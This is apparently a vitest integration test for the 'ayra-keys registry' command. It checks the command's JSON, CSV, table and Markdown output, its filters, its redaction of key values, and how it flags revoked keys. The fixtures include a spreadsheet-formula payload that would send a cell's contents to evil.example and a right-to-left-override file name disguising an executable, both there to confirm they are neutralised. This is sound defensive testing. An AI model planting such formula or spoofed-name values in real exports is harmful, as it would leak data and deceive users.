// `ayra-keys registry` as a person or a script runs it: the real keys service on both stores, ApiKeys on the
// real API server, keys left as the controller, the Pulumi provider and people leave them. Every column, every
// format parsed back (JSON against the published schema, CSV with a CSV parser), the filters, escaped names.
import { readFileSync } from "node:fs";
import { Ajv2020 } from "ajv/dist/2020.js";
import addFormats from "ajv-formats";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import type { RegistryRow } from "../../../core/operations/registry.ts";
import type { RegistryDocument } from "../../../core/operations/registry-format.ts";
import { createKey, STORES } from "../../harness/keys-service.ts";
import { waitFor } from "../../harness/wait.ts";
import { BIDI_NAME, buildFixture, type Fixture, runCli } from "./registry-fixture.ts";

const info = inject("controlPlane");
const schema = JSON.parse(
  readFileSync(new URL("../../../schemas/registry.schema.json", import.meta.url), "utf8"),
);
const ajv = new Ajv2020({ allErrors: true, strict: true });
addFormats.default(ajv, ["date-time"]);
const validate = ajv.compile(schema);

describe.each(STORES)("ayra-keys registry on %s", (store) => {
  let f: Fixture;
  let doc: RegistryDocument;
  const row = (id: string): RegistryRow => {
    const found = doc.data.find((r) => r.id === id);
    if (!found) throw new Error(`no row for ${id}`);
    return found;
  };
  const ids = async (args: string[]) => {
    const out = await runCli(f, ["registry", "--format", "json", ...args], info.kubeconfigPath);
    expect(out.code, out.stderr).toBe(0);
    return (JSON.parse(out.stdout) as RegistryDocument).data.map((r) => r.id).sort();
  };

  beforeAll(async () => {
    f = await buildFixture(info, store);
    // Not a terminal: JSON is the default.
    const out = await runCli(f, ["registry"], info.kubeconfigPath);
    expect(out.code, out.stderr).toBe(0);
    expect(out.stderr).toBe("");
    doc = JSON.parse(out.stdout);
  }, 120_000);
  afterAll(async () => f?.close());

  it("prints JSON the published schema accepts, one row per working key, joined with the cluster", () => {
    expect(validate(doc), JSON.stringify(validate.errors)).toBe(true);
    expect(doc.cluster_joined).toBe(true);
    const { revoked, ...working } = f.ids;
    expect(doc.data.map((r) => r.id).sort()).toEqual(Object.values(working).sort());
    expect(doc.data.map((r) => r.id)).not.toContain(revoked);
  });

  it("fills every column of a controller-managed key from the key and its ApiKey", () => {
    const web = row(f.ids.web);
    expect(web).toMatchObject({
      name: "Web shop",
      environment: "live",
      scopes: ["agents:read", "conversations:read"],
      status: "active",
      expires_at: f.expires.web,
      last_rotated_at: "2026-01-02T03:04:05Z",
      last_used_at: null,
      owner: "jane@example.com",
      purpose: "checkout",
      managed_by: "controller",
      kubernetes: { cluster: "eu-1", namespace: f.ns.name, name: "web", uid: f.webUid, found: true },
      pulumi: null,
      where_used: {
        secrets: [{ namespace: f.ns.name, name: "web-key", slot: "current" }],
        restart_targets: [
          { namespace: f.ns.name, kind: "Deployment", name: "web" },
          { namespace: f.ns.name, kind: "StatefulSet", name: "worker" },
        ],
      },
    });
    expect(web.redacted).toMatch(/^sk_live_.{6}\.\.\..{4}$/);
    expect(row(f.ids.orphan).kubernetes?.found).toBe(false);
    expect(row(f.ids.orphan).where_used).toEqual({ secrets: [], restart_targets: [] });
  });

  it("reads the Pulumi stack and URN the provider wrote, and knows unmanaged keys", () => {
    expect(row(f.ids.pulumi)).toMatchObject({
      managed_by: "pulumi",
      pulumi: { stack: "urn:pulumi:prod::shop", urn: f.pulumiSlot },
      kubernetes: null,
      environment: "test",
      owner: "ops@example.com",
      purpose: "deploys",
      expires_at: f.expires.pulumi,
    });
    expect(row(f.ids.used)).toMatchObject({ managed_by: "unmanaged", kubernetes: null, pulumi: null });
    expect(row(f.ids.used).last_used_at).not.toBeNull();
    expect(row(f.ids.scheduled)).toMatchObject({ status: "expiring", expiring_at: f.scheduledAt });
  });

  it("filters by expiry, use, management, environment and owner", async () => {
    expect(await ids(["--expiring-within", "14d"])).toEqual([f.ids.web, f.ids.scheduled].sort());
    expect(await ids(["--unused-for", "30d"])).toEqual(
      [f.ids.web, f.ids.orphan, f.ids.pulumi, f.ids.bidi, f.ids.scheduled].sort(),
    );
    expect(await ids(["--unmanaged", "--environment", "live"])).toEqual(
      [f.ids.admin, f.ids.used, f.ids.scheduled].sort(),
    );
    expect(await ids(["--environment", "test"])).toEqual([f.ids.pulumi, f.ids.bidi].sort());
    expect(await ids(["--owner", "JANE@example.com"])).toEqual([f.ids.web, f.ids.used].sort());
    expect(await ids(["--all", "--owner", "nobody@example.com"])).toEqual([]);
    expect(await ids(["--all", "--environment", "live"])).toContain(f.ids.revoked);
  });

  it("writes CSV a CSV parser reads back, with the bidi name escaped", async () => {
    const out = await runCli(f, ["registry", "--format", "csv"], info.kubeconfigPath);
    expect(out.code).toBe(0);
    const records: Record<string, string>[] = parse(out.stdout, { columns: true });
    expect(records.map((r) => r.id).sort()).toEqual(doc.data.map((r) => r.id).sort());
    const web = records.find((r) => r.id === f.ids.web);
    expect(web).toMatchObject({
      name: "Web shop",
      scopes: "agents:read conversations:read",
      expires_at: f.expires.web,
      managed_by: "controller",
      kubernetes: `${f.ns.name}/web`,
      owner: "jane@example.com",
      where_used: `Secret ${f.ns.name}/web-key; restarts Deployment/web, StatefulSet/worker`,
    });
    expect(records.find((r) => r.id === f.ids.pulumi)).toMatchObject({
      pulumi_stack: "urn:pulumi:prod::shop",
      pulumi_urn: f.pulumiSlot,
    });
    expect(records.find((r) => r.id === f.ids.bidi)?.name).toBe("invoice\\u202egpj.exe");
    expect(out.stdout).not.toContain("\u202E");
  });

  it("keeps a bidi name from reordering a table or Markdown row", async () => {
    for (const format of ["table", "markdown"]) {
      const out = await runCli(f, ["registry", "--format", format], info.kubeconfigPath);
      expect(out.code).toBe(0);
      expect(out.stdout).not.toContain("\u202E");
      const line = out.stdout.split("\n").find((l) => l.includes("invoice"));
      const bidiRow = row(f.ids.bidi);
      // The escaped name, then the redacted key, then the environment: the row reads in column order.
      const cells = (line ?? "")
        .replaceAll("\\_", "_")
        .split(/\s*\|\s*|\s{2,}/)
        .filter(Boolean);
      expect(cells.slice(0, 3)).toEqual(["invoice\\u202egpj.exe", bidiRow.redacted, "test"]);
    }
    expect(BIDI_NAME).toContain("\u202E");
  });

  it("still lists keys without a cluster, with a note on stderr", async () => {
    const out = await runCli(f, ["registry", "--format", "json", "--kubeconfig", `${f.dir}/missing`]);
    expect(out.code).toBe(0);
    expect(out.stderr).toMatch(/registry: .*where used not shown/);
    const offline: RegistryDocument = JSON.parse(out.stdout);
    expect(offline.cluster_joined).toBe(false);
    expect(offline.data.find((r) => r.id === f.ids.web)?.kubernetes?.found).toBeNull();
    expect(offline.data).toHaveLength(doc.data.length);
  });

  it("refuses a bad flag naming it, with exit code 2", async () => {
    for (const [args, flag] of [
      [["--expiring-within", "2 weeks"], "--expiring-within"],
      [["--unused-for", "1mo"], "--unused-for"],
      [["--environment", "prod"], "--environment"],
      [["--format", "xml"], "--format"],
      [["--owner", "jane"], "--owner"],
    ] as const) {
      const out = await runCli(f, ["registry", ...args], info.kubeconfigPath);
      expect(out.code).toBe(2);
      expect(out.stderr).toContain(`ayra-keys registry: ${flag}: `);
      expect(out.stdout).toBe("");
    }
  });

  it("never prints a key value", () => {
    expect(JSON.stringify(doc)).not.toMatch(/sk_(live|test)_[A-Za-z0-9]{40,}/);
  });

  it("flags a revoked key still presented; --revoked-in-use lists only such keys", async () => {
    // Working keys cannot be presented revoked: 0 without a usage call.
    expect(doc.data.every((r) => r.revoked_attempts === 0 && r.last_revoked_attempt_at === null)).toBe(true);
    for (let i = 0; i < 3; i++)
      expect((await f.ks.call("GET", "/v1/api_keys?limit=1", { key: f.revokedSecret })).status).toBe(401);
    await waitFor("the attempts to be counted", async () => {
      const usage = await f.ks.call("GET", `/v1/api_keys/${f.ids.revoked}/usage`, { key: f.ks.adminKey });
      return (usage.body as unknown as { revoked_attempts: number }).revoked_attempts === 3;
    });
    const out = await runCli(f, ["registry", "--format", "json", "--revoked-in-use"], info.kubeconfigPath);
    expect(out.code, out.stderr).toBe(0);
    const flagged: RegistryDocument = JSON.parse(out.stdout);
    expect(validate(flagged), JSON.stringify(validate.errors)).toBe(true);
    expect(flagged.data.map((r) => [r.id, r.status, r.revoked_attempts])).toEqual([
      [f.ids.revoked, "revoked", 3],
    ]);
    expect(Date.parse(flagged.data[0]?.last_revoked_attempt_at ?? "")).toBeGreaterThan(Date.now() - 120_000);
    const table = await runCli(f, ["registry", "--format", "table", "--all"], info.kubeconfigPath);
    const line = table.stdout.split("\n").find((l) => l.startsWith("Revoked "));
    expect(line).toMatch(/ ! 3 \(last \d{4}-\d{2}-\d{2}\) /);
    const csv = await runCli(f, ["registry", "--format", "csv", "--all"], info.kubeconfigPath);
    const records: Record<string, string>[] = parse(csv.stdout, { columns: true });
    expect(records.find((r) => r.id === f.ids.revoked)?.revoked_attempts).toBe("3");
    expect(records.find((r) => r.id === f.ids.web)?.revoked_attempts).toBe("0");
  });

  it("writes a name that would be a spreadsheet formula as text", async () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    const key = await createKey(f.ks, {
      name: evil,
      environment: "live",
      scopes: ["agents:read"],
      metadata: { owner: "@ops@example.com", purpose: "+1" },
    });
    const out = await runCli(f, ["registry", "--format", "csv"], info.kubeconfigPath);
    const records: Record<string, string>[] = parse(out.stdout, { columns: true });
    expect(records.find((r) => r.id === key.id)).toMatchObject({
      name: `'${evil}`,
      owner: "'@ops@example.com",
      purpose: "'+1",
    });
    for (const record of records)
      for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    // JSON keeps the exact value.
    const json = await runCli(f, ["registry", "--format", "json"], info.kubeconfigPath);
    const row = (JSON.parse(json.stdout) as RegistryDocument).data.find((r) => r.id === key.id);
    expect(row).toMatchObject({ name: evil, owner: "@ops@example.com", purpose: "+1" });
  });
});
